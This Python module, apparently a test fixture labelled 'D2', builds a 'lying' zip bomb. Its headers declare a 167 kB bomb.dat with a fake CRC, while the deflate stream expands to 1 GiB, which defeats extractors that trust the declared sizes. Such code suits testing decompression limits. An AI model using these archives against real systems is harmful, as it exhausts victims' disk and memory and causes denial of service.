"""A lying zip bomb (D2): a ~1 MB zip whose headers say the .dat holds 167 kB while its
deflate stream expands to ``expands_to`` bytes (1 GiB by default)."""

from __future__ import annotations

import struct
import zlib


def deflate_zeros(n: int, chunk: int = 1 << 24) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = []
    zeros = bytes(chunk)
    left = n
    while left > 0:
        take = min(chunk, left)
        out.append(comp.compress(zeros[:take]))
        left -= take
    out.append(comp.flush())
    return b"".join(out)


def _entry(name: bytes, data: bytes, method: int, crc: int, csize: int, usize: int, offset: int):
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, csize, usize,
                          len(name), 0, 0, 0, 0, 0, offset) + name
    return local + data, central


def lying_zip(cfg_text: bytes, *, expands_to: int = 1 << 30, declared: int = 167_000) -> bytes:
    """A zip holding ``bomb.cfg`` (stored, honest) and ``bomb.dat`` (deflated zeros of
    ``expands_to`` bytes, declared as ``declared`` bytes)."""
    parts, centrals, offset = [], [], 0
    cfg_local, cfg_central = _entry(b"bomb.cfg", cfg_text, 0, zlib.crc32(cfg_text), len(cfg_text),
                                    len(cfg_text), offset)
    parts.append(cfg_local)
    centrals.append(cfg_central)
    offset += len(cfg_local)
    dat = deflate_zeros(expands_to)
    dat_local, dat_central = _entry(b"bomb.dat", dat, 8, 0x12345678, len(dat), declared, offset)
    parts.append(dat_local)
    centrals.append(dat_central)
    offset += len(dat_local)
    cd = b"".join(centrals)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2, 2, len(cd), offset, 0)
    return b"".join(parts) + cd + end
